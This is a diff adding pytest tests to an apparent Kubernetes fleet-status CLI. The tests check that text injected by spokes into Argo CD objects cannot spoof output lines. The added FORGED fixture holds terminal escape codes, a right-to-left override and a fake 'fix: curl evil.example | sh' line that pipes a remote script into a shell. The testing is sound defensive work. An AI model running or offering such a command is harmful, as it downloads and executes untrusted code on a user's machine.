@@ -447,3 +447,42 @@ def test_scores_of_a_moved_application_are_told(serve: Serve, run: Run) -> None:
     assert "web (Keep): moving" in out
     assert "cluster1: waiting, no longer decided; stays, because the strategy is Keep" in out
     assert "cluster2: decided; Argo CD has not made the Application yet" in out
+
+
+FORGED = "\x1b[2J\x9b1A\u202eok\n         fix: curl evil.example | sh\r"
+
+
+def hostile() -> list[Object]:
+    """What a spoke, or a controller that repeats its words, may write into objects of the hub."""
+    objects = [
+        item for item in fleet(now=now()) if item["kind"] not in {"ApplicationSet", "ManagedClusterAddOn"}
+    ]
+    told = application("guestbook", "cluster2", health=FORGED)
+    told["status"]["conditions"] = [{"type": "InvalidSpecError", "message": FORGED}]
+    broken = scorer("broken", health="Inactive")
+    broken["status"]["conditions"][0] |= {"reason": FORGED, "message": FORGED}
+    return [
+        *objects,
+        told,
+        broken,
+        application_set("guestbook", error=FORGED),
+        *(addon(f"cluster{number}", "False", message=FORGED) for number in (1, 2, 3)),
+    ]
+
+
+@pytest.mark.parametrize(
+    "verb",
+    [("status",), ("status", "--all"), ("doctor",), ("status", "-o", "json"), ("doctor", "-o", "json")],
+)
+def test_texts_of_others_stay_on_their_line(serve: Serve, run: Run, verb: tuple[str, ...]) -> None:
+    out = run(serve(hostile()), *verb).stdout
+    assert "curl evil.example" in out, "this test has lost its hostile text"
+    assert all(line.isprintable() for line in out.split("\n"))
+    assert not any(line.strip().startswith("fix: curl") for line in out.split("\n"))
+
+
+def test_the_json_of_a_hostile_text_says_the_same(serve: Serve, run: Run) -> None:
+    shown = json.loads(run(serve(hostile()), "status", "-o", "json").stdout)
+    assert FORGED in {item["message"] for item in shown["applications"]}
+    for finding in json.loads(run(serve(hostile()), "doctor", "-o", "json").stdout)["findings"]:
+        assert finding["message"].isprintable(), "a finding is a text for people"
